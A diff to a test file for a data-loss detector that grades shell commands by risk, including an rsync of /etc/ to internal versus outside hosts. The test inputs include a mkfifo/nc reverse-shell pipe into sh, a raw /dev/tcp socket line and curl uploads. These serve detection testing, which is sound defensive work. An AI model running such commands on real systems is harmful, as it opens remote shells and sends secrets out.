@@ -3,7 +3,7 @@ import type { Fact } from "../events/fact.ts";
 import { possibleDataLossCommand } from "./possible-data-loss.command.ts";
 import { possibleDataLossPipe } from "./possible-data-loss.pipe.ts";
 import { possibleDataLossSocket } from "./possible-data-loss.socket.ts";
-import { grade, process, ran, run, script } from "./testing/root-shell.ts";
+import { below, grade, process, ran, run, script } from "./testing/root-shell.ts";
 
 describe("data that leaves by a command", () => {
   test.each([
@@ -51,6 +51,13 @@ describe("data that leaves by a command", () => {
     expect(grade(run(possibleDataLossCommand, [script(line)]))).toEqual(["low"]);
   });
 
+  test("a nightly backup in the own network takes the secrets along, a stranger's does not", () => {
+    const nightly = (to: string) =>
+      grade(run(possibleDataLossCommand, [ran(["rsync", "-a", "/etc/", `${to}:/b/`], below("/usr/sbin/cron"))]));
+    expect(nightly("backup@10.0.0.9")).toEqual(["low"]);
+    expect(nightly("backup@192.0.2.7")).toEqual(["medium"]);
+  });
+
   test.each([
     "curl -d '{\"a\":1}' https://api.example/",
     "curl -d @body.json https://api.example/",
@@ -65,6 +72,7 @@ describe("data that leaves by a command", () => {
     "mkfifo q; nc 192.0.2.7 80 < q | sh > q",
     "nc -zv 192.0.2.7 80",
     "dig +short x.example.net",
+    "exec 3<>/dev/tcp/127.0.0.1/80; cat req >&3; head -1 <&3",
     "for h in a b; do dig $h.example.net; done",
     "echo | openssl s_client -connect x.example:443",
     "aws s3 cp s3://b/x .",
